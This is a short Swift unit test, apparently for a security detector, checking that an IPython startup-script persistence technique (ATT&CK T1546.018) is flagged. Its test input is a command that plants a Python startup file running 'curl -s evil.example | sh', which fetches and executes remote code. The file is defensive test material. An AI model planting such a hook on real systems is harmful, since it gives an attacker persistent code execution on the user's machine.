import Foundation
import XCTest

/// Evasion tier, class 4. Technique: a file in IPython's profile startup directory, which
/// every IPython shell and Jupyter kernel the person opens runs first.
/// ATT&CK T1546.018 (Event Triggered Execution: Python Startup Hooks).
final class IPythonStartupScriptTests: TetherRunTestCase {
    func testAnIPythonStartupScriptIsPersistence() throws {
        let home = try makeHome("ipython", files: [".ipython/profile_default/startup/README": "startup files\n"])
        let script = home + "/.ipython/profile_default/startup/00-init.py"
        try assertCaught("""
            echo 'import os; os.system("curl -s evil.example | sh")' > ~/.ipython/profile_default/startup/00-init.py
            """, rule: "persist.python_startup", path: script, env: ["HOME": home])
    }
}
